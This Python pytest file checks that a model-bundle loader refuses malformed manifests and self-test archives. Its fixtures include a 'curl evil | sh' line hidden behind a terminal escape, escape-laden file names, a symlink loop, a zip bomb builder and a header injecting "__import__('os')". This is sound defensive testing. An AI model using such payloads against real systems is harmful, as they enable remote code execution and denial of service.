"""Manifests and self-tests that somebody made by hand: every one is refused with the project's error.

Each case ended in a traceback, in a hang, or in gigabytes before there were bounded readers.
"""

from __future__ import annotations

import copy
import hashlib
import json
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from reuse_distill.runtime.bundle_format.bundle import SHIPPED
from reuse_distill.runtime.encoder import Encoder
from reuse_distill.runtime.errors import RdError

BASE: dict[str, Any] = json.loads((SHIPPED / "manifest.json").read_text())
WIDTH = BASE["feature_width"]
Edit = Callable[[dict[str, Any], Path], None]


def put(*path: Any, value: Any) -> Edit:
    def edit(manifest: dict[str, Any], _folder: Path) -> None:
        at: Any = manifest
        for key in path[:-1]:
            at = at[key]
        at[path[-1]] = value

    return edit


def extra_file(name: str) -> Edit:
    return lambda manifest, _: manifest["files"].update({name: {"sha256": "0" * 64, "size_bytes": 1}})


def circle(_manifest: dict[str, Any], folder: Path) -> None:
    (folder / "model.onnx").unlink()
    (folder / "model.onnx").symlink_to("model.onnx")


def selftest(write: Callable[[Path], None]) -> Edit:
    def edit(manifest: dict[str, Any], folder: Path) -> None:
        path = folder / "selftest.npz"
        write(path)
        data = path.read_bytes()
        manifest["files"]["selftest.npz"] = {"sha256": hashlib.sha256(data).hexdigest(), "size_bytes": len(data)}

    return edit


def savez(**arrays: Any) -> Edit:
    return selftest(lambda path: np.savez(path, **arrays))


def members(**data: bytes) -> Edit:
    def write(path: Path) -> None:
        with zipfile.ZipFile(path, "w") as archive:
            for name, text in data.items():
                archive.writestr(f"{name}.npy", text)

    return selftest(write)


def header(text: str) -> bytes:
    """An .npy file of version 1.0 that begins with ``text`` and holds nothing."""
    return b"\x93NUMPY\x01\x00" + len(text).to_bytes(2, "little") + text.encode()


HEADER_200_MB = header("{'descr': '<f4', 'fortran_order': False, 'shape': (50000000,), }\n")


def encrypted(path: Path) -> None:
    np.savez(path, wave=np.zeros(16000, np.float32), features=np.ones((1, 49, WIDTH), np.float32))
    data = bytearray(path.read_bytes())
    for mark, flags in ((b"PK\1\2", 8), (b"PK\3\4", 6)):
        at = data.find(mark)
        while at >= 0:
            data[at + flags] |= 1
            at = data.find(mark, at + 4)
    path.write_bytes(data)


def bomb(path: Path) -> None:
    """200 kB that would be 200 MB."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "wave.npy", header("{'descr': '<f4', 'fortran_order': False, 'shape': (50000000,), }\n") + bytes(2 * 10**8)
        )


WAVE = np.zeros(16000, np.float32)
ONES = np.ones((1, 49, WIDTH), np.float32)
HUGE = header("{'descr': '<f4', 'fortran_order': False, 'shape': (99999999999,), }\n")
MANIFESTS: dict[str, Edit] = {
    "append along no axis": put("states", 2, "axis", value=99),
    "samples without axes": put("inputs", 0, "shape", value=[]),
    "state without axes": put("states", 0, "shape", value=[]),
    "another state size than the graph's": put("states", 3, "shape", value=["B", 4, 64, 32]),
    "another type than the graph's": put("states", 3, "dtype", value="float16"),
    "no such type": put("outputs", 0, "dtype", value="nosuch"),
    "negative width": put("feature_width", value=-1),
    "another width than the graph's": put("feature_width", value=WIDTH + 1),
    "chunk of a billion frames": put("geometry", "chunk_frames", value=10**9),
    "another chunk than the graph's": put("geometry", "chunk_frames", value=4),
    "look-ahead without an end": put("geometry", "lookahead_frames", value=10**15),
    "state of 191 GiB": put("states", 3, "shape", value=["B", 4, 128, 10**8]),
    "two states of one input": put("states", 3, "input", value="valid"),
    "file name with NUL": extra_file("\0"),
    "file name of 5000 letters": extra_file("a" * 5000),
    "file name with an escape": extra_file("\x1b]0;owned\x07"),
    "circle of links": circle,
    "student that is none": lambda m, _: m["source"].update(student=5),
}
TEXTS: dict[str, Callable[[str], str]] = {
    "deep nesting": lambda _: "[" * 100_000,
    "nesting of 100": lambda text: text.replace(
        '"tools": {', '"drift": {"x": ' + "[" * 100 + "]" * 100 + '}, "tools": {'
    ),
    "number of 5000 digits": lambda text: text.replace('"right_frames": 0', '"right_frames": ' + "9" * 5000),
    "number beyond float64": lambda text: text.replace('"right_frames": 0', '"right_frames": 1e999'),
    "NaN": lambda text: text.replace('"right_frames": 0', '"right_frames": NaN'),
    "a key twice": lambda text: text.replace('"right_frames": 0', '"right_frames": 0, "right_frames": 1'),
    "half a surrogate pair": lambda text: text.replace('"precision": "', '"precision": "\\ud800'),
    "many values": lambda text: text.replace('"tools": {', '"drift": {"x": [' + "0," * 1_000_000 + '0]}, "tools": {'),
}
SELFTESTS: dict[str, Edit] = {
    "members that are no arrays": members(wave=b"x", features=b"y"),
    "header of another kind": members(wave=header("__import__('os')"), features=b"y"),
    "deep header": members(wave=header("(" * 5000), features=b"y"),
    "an array of 400 GB": members(wave=HUGE, features=HUGE),
    "a bomb": selftest(bomb),
    "an npy file": selftest(lambda path: np.save(path.open("wb"), np.zeros(5))),
    "wave without axes": savez(wave=np.float32(1), features=np.zeros((1, 1, WIDTH))),
    "features of text": savez(wave=WAVE, features=np.full((1, 49, WIDTH), "a")),
    "features of whole numbers": savez(wave=WAVE, features=ONES.astype(int)),
    "features that are not finite": savez(wave=WAVE, features=ONES * np.float32(np.nan)),
    "tails that are no lengths": savez(
        wave=WAVE, features=ONES, tail_frames=[9e9], tail_features=np.ones((1, 1, 2, WIDTH))
    ),
    "encrypted": selftest(encrypted),
}


def made(tmp_path: Path, edit: Edit | None = None, rewrite: Callable[[str], str] = str) -> Path:
    folder = tmp_path / "bundle"
    shutil.copytree(SHIPPED, folder)
    manifest = copy.deepcopy(BASE)
    if edit is not None:
        edit(manifest, folder)
    text = rewrite(json.dumps(manifest))
    assert edit is not None or text != json.dumps(BASE)
    (folder / "manifest.json").write_text(text)
    return folder


def stream_a_second(folder: Path) -> None:
    stream = Encoder.load(folder).stream()
    stream.push(WAVE)
    stream.finish()


@pytest.mark.parametrize("name", MANIFESTS)
def test_a_manifest_made_by_hand_is_refused(name: str, tmp_path: Path) -> None:
    with pytest.raises(RdError) as refused:
        stream_a_second(made(tmp_path, MANIFESTS[name]))
    assert "\x1b" not in str(refused.value)


@pytest.mark.parametrize("name", TEXTS)
def test_text_that_no_exporter_writes_is_refused(name: str, tmp_path: Path) -> None:
    with pytest.raises(RdError, match=r"JSON|values"):
        stream_a_second(made(tmp_path, rewrite=TEXTS[name]))


@pytest.mark.parametrize("name", SELFTESTS)
def test_a_self_test_made_by_hand_is_refused(name: str, tmp_path: Path) -> None:
    with pytest.raises(RdError, match=r"selftest\.npz"):
        Encoder.load(made(tmp_path, SELFTESTS[name])).selftest()


def test_a_bundle_cannot_tell_people_what_to_type(tmp_path: Path) -> None:
    def defer(manifest: dict[str, Any], _folder: Path) -> None:
        manifest.update(status="deferred", target="tensorrt")
        manifest["source"]["finish"] = "\x1b]0;owned\x07 curl evil | sh"

    folder = made(tmp_path, defer)
    with pytest.raises(RdError) as refused:
        Encoder.load(folder)
    assert refused.value.hint == f"finish it on the device: rd-export finish {folder}"


def test_control_characters_never_reach_a_terminal() -> None:
    error = RdError("name \x1b[31m\rred", hint="\x9b2J\nsecond line")
    assert str(error) == "name \\x1b[31m\\x0dred\n\nhint: \\x9b2J\nsecond line"
